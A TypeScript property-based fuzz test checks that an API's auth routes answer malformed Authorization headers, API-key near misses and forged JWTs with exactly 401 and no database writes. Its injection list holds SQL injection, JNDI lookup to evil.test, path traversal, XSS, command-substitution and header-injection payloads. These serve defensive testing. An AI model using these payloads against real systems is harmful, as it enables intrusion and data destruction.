// Property-based fuzz of the Authorization header and the API-key format (OWASP API2, and the
// pre-auth SQL-injection class of CVE-2026-42208): whatever an unauthenticated caller puts in the
// header, a user route, an org route, the API-key route and the codec route answer exactly 401 with
// the documented error body — never 500, never 200 — and nothing in the database changes.
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { useTestApp } from '../support/app.js';
import { bearer, seedActiveOrg, signUp, useAdminPool, type TestUser } from '../integration/api/helpers.js';
import { attackSurface, expectRefusal, freshAddress, invalidToken, unauthenticated } from './support.js';

/** Fixed for reproducibility; printed so a failing run can be replayed with the same inputs. */
const seed = 20_261_126;
const numRuns = 250;

const t = useTestApp();
const admin = useAdminPool();

interface Fixture {
  owner: TestUser;
  orgId: string;
  key: string;
  parts: { env: string; prefix: string; secret: string };
  kid: string;
}
let fx: Fixture;

beforeAll(async () => {
  console.info(`authorization fuzz: fast-check seed ${seed}, ${numRuns} runs per property`);
  const owner = await signUp(t.app, 'fuzz-owner');
  const orgId = await seedActiveOrg(admin, owner, 'Fuzz target');
  const created = await t.app.inject({
    method: 'POST',
    url: `/api/orgs/${orgId}/api-keys`,
    headers: bearer(owner),
    payload: { name: 'fuzz target', scopes: ['inference'] },
  });
  expect(created.statusCode, created.body).toBe(201);
  const key = created.json<{ key: string }>().key;
  const [, env = '', prefix = ''] = key.split('_');
  const secret = key.slice(`vl_${env}_${prefix}_`.length);
  const kid = JSON.parse(Buffer.from(owner.accessToken.split('.')[0]!, 'base64url').toString()) as {
    kid: string;
  };
  fx = { owner, orgId, key, parts: { env, prefix, secret }, kid: kid.kid };
});

afterAll(async () => {
  // The real credentials still work: near misses poisoned no cache and locked nothing out.
  const me = await t.app.inject({ method: 'GET', url: '/api/me', headers: bearer(fx.owner) });
  expect(me.statusCode).toBe(200);
  const key = await t.app.inject({
    method: 'GET',
    url: '/api/auth/key',
    headers: { authorization: `Bearer ${fx.key}` },
  });
  expect(key.statusCode).toBe(200);
});

const targets = [
  { name: 'user route GET /api/me', method: 'GET', url: () => '/api/me' },
  {
    name: 'org route GET /api/orgs/:orgId/members',
    method: 'GET',
    url: () => `/api/orgs/${fx.orgId}/members`,
  },
  { name: 'API-key route GET /api/auth/key', method: 'GET', url: () => '/api/auth/key' },
  {
    name: 'codec route POST /codec/decode',
    method: 'POST',
    url: () => '/codec/decode',
    payload: { payloads: [] },
  },
] as const;

// --- building blocks -------------------------------------------------------------------------

const base62 = [...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'];
const base64url = [...base62, '-', '_'];
const injections = [
  "' OR '1'='1",
  "'; DROP TABLE api_keys; --",
  "' UNION SELECT secret_hash FROM api_keys --",
  // Without whitespace, so they survive the bearer syntax and reach the key and token parsers.
  "'OR'1'='1",
  "';DROP/**/TABLE/**/api_keys;--",
  "'||pg_sleep(5)||'",
  "')/**/OR/**/('a'='a",
  '"};{"alg":"none',
  '\\',
  '1; SELECT pg_sleep(5)',
  '%27%20OR%201%3D1',
  '\\x00',
  '%00',
  '${jndi:ldap://evil.test/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  '$(id)',
  '\u202e',
  '🦋',
  'ÄÖÜ',
  '\u0000',
  '\r\nX-Injected: 1',
];

const word = (alphabet: string[], min: number, max: number) =>
  fc.array(fc.constantFrom(...alphabet), { minLength: min, maxLength: max }).map((a) => a.join(''));
const control = fc.integer({ min: 0, max: 31 }).map((c) => String.fromCharCode(c));
const unicode = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 });
const injection = fc.constantFrom(...injections);
const anyText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 200 }),
  unicode,
  injection,
  word(base64url, 0, 200),
);

/** Puts `insert` at a random place in `s`. */
const spliced = (s: fc.Arbitrary<string>, insert: fc.Arbitrary<string>) =>
  fc.tuple(s, insert, fc.nat()).map(([text, extra, at]) => {
    const i = text.length === 0 ? 0 : at % (text.length + 1);
    return text.slice(0, i) + extra + text.slice(i);
  });

/** Changes one character of `s` to another of the alphabet. */
const oneCharOff = (s: string, alphabet: string[]) =>
  fc.tuple(fc.nat({ max: s.length - 1 }), fc.constantFrom(...alphabet)).map(([i, c]) => {
    const replacement = c === s[i] ? (c === 'A' ? 'B' : 'A') : c;
    return s.slice(0, i) + replacement + s.slice(i + 1);
  });

/** What HTTP carries: header bytes read as latin1 (Node's reading of a raw header). */
const onTheWire = (value: string) => Buffer.from(value, 'utf8').toString('latin1');

function apiKeyNearMiss(): fc.Arbitrary<string> {
  const { env, prefix, secret } = fx.parts;
  const envPart = fc.oneof(
    { weight: 4, arbitrary: fc.constant(env) },
    fc.constantFrom('test', 'dev', 'prod', 'LIVE', 'Live', '', 'live ', 'l1ve', 'a'.repeat(17)),
    word(base62, 0, 20),
    unicode,
    injection,
  );
  const prefixPart = fc.oneof(
    { weight: 4, arbitrary: fc.constant(prefix) },
    oneCharOff(prefix, base62),
    word(base62, 12, 12),
    word(base62, 0, 11),
    word(base62, 13, 40),
    word(['-', '_', '.', '/', '+', '=', ' ', '%'], 1, 12),
    fc.constant(prefix.toLowerCase()),
    unicode,
    injection,
    spliced(fc.constant(prefix), fc.oneof(control, injection)),
  );
  const secretPart = fc.oneof(
    { weight: 2, arbitrary: fc.constant(secret) },
    { weight: 4, arbitrary: oneCharOff(secret, base64url) },
    word(base64url, 43, 43),
    word(base64url, 0, 42),
    word(base64url, 44, 400),
    fc.constant(Buffer.from(secret, 'base64url').toString('base64')),
    unicode,
    injection,
    spliced(fc.constant(secret), fc.oneof(control, injection, unicode)),
    fc.integer({ min: 129, max: 20_000 }).map((n) => secret + 'A'.repeat(n)),
  );
  const sep = fc.oneof(
    { weight: 8, arbitrary: fc.constant('_') },
    fc.constantFrom('', '__', '-', ' ', '\u0000'),
  );
  const lead = fc.oneof(
    { weight: 8, arbitrary: fc.constant('vl') },
    fc.constantFrom('VL', 'v1', 'vI', 'vl_vl', ''),
  );
  return fc
    .tuple(lead, sep, envPart, sep, prefixPart, sep, secretPart)
    .map((parts) => parts.join(''))
    .filter((candidate) => candidate !== fx.key);
}

function jwtShaped(): fc.Arbitrary<string> {
  const [realHeader = '', realPayload = '', realSignature = ''] = fx.owner.accessToken.split('.');
  const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const header = fc.oneof(
    fc.constant(realHeader),
    fc
      .record({
        alg: fc.constantFrom('none', 'None', 'NONE', 'HS256', 'RS256', 'ES256', 'PS256', 'EdDSA', ''),
        kid: fc.oneof(fc.constant(fx.kid), anyText),
        typ: fc.constantFrom('at+jwt', 'JWT', undefined),
      })
      .map(b64),
    word(base64url, 0, 80),
  );
  const payload = fc.oneof(
    fc.constant(realPayload),
    fc
      .record({
        sub: fc.oneof(fc.uuid(), anyText),
        iss: fc.constantFrom('http://localhost:3000', 'https://evil.test', ''),
        aud: fc.constantFrom('vlinders-api', 'other', ''),
        exp: fc.integer({ min: 0, max: 4_000_000_000 }),
        iat: fc.integer({ min: 0, max: 4_000_000_000 }),
      })
      .map(b64),
    word(base64url, 0, 200),
    anyText,
  );
  const signature = fc.oneof(fc.constant(realSignature), fc.constant(''), word(base64url, 0, 400), anyText);
  const dots = fc.oneof(
    { weight: 6, arbitrary: fc.constant(['.', '.']) },
    fc.constantFrom(['.', ''], ['..', '.'], ['.', '..']),
  );
  return fc
    .tuple(header, payload, signature, dots)
    .map(([h, p, s, [d1, d2]]) => `${h}${d1}${p}${d2}${s}`)
    .filter((candidate) => candidate !== fx.owner.accessToken);
}

function authorizationHeader(credential: fc.Arbitrary<string>): fc.Arbitrary<string> {
  const scheme = fc.oneof(
    { weight: 6, arbitrary: fc.constant('Bearer') },
    fc.constantFrom(
      'bearer',
      'BEARER',
      'Basic',
      'Digest',
      'Token',
      'ApiKey',
      'Bearer:',
      'Bearer=',
      'JWT',
      '',
    ),
  );
  const gap = fc.oneof(
    { weight: 6, arbitrary: fc.constant(' ') },
    fc.constantFrom('', '  ', '\t', ' \u0000', '\u00a0', '\r\n ', ' \u200b'),
  );
  const tail = fc.oneof(
    { weight: 6, arbitrary: fc.constant('') },
    fc.constantFrom(' ', '  x', ',', ' Bearer x', '\u0000'),
  );
  return fc.tuple(scheme, gap, credential, tail).map(([s, g, c, e]) => s + g + c + e);
}

const properties = {
  'any header value (random bytes, schemes, spacing, injections)': () =>
    fc.oneof(
      { weight: 6, arbitrary: authorizationHeader(fc.oneof(anyText, apiKeyNearMiss(), jwtShaped())) },
      fc.string({ unit: 'binary', maxLength: 400 }),
      fc.integer({ min: 8_000, max: 60_000 }).map((n) => `Bearer vl_${'A'.repeat(n)}`),
      fc.constantFrom(
        '',
        ' ',
        'Bearer',
        'Bearer ',
        'Bearer  ',
        `Basic ${Buffer.from('a:b').toString('base64')}`,
      ),
    ),
  'API-key near misses (vl_<env>_<prefix>_<secret>)': () => authorizationHeader(apiKeyNearMiss()),
  'JWT-shaped garbage (alg none, foreign kid, real parts recombined)': () => authorizationHeader(jwtShaped()),
};

describe.each(targets.map((target) => [target.name, target] as const))('%s', (_name, target) => {
  it.each(Object.entries(properties))('%s: always exactly 401, nothing written', async (_name, arbitrary) => {
    const address = freshAddress();
    const before = await attackSurface(admin, fx.orgId, address);
    await fc.assert(
      fc.asyncProperty(arbitrary(), async (raw) => {
        const header = onTheWire(raw);
        const res = await t.app.inject({
          method: target.method,
          url: target.url(),
          remoteAddress: address,
          headers: { authorization: header },
          ...('payload' in target && { payload: target.payload }),
        });
        expectRefusal(res, [unauthenticated, invalidToken], header);
      }),
      { seed, numRuns, endOnFailure: true },
    );
    expect(await attackSurface(admin, fx.orgId, address)).toBe(before);
  });
});
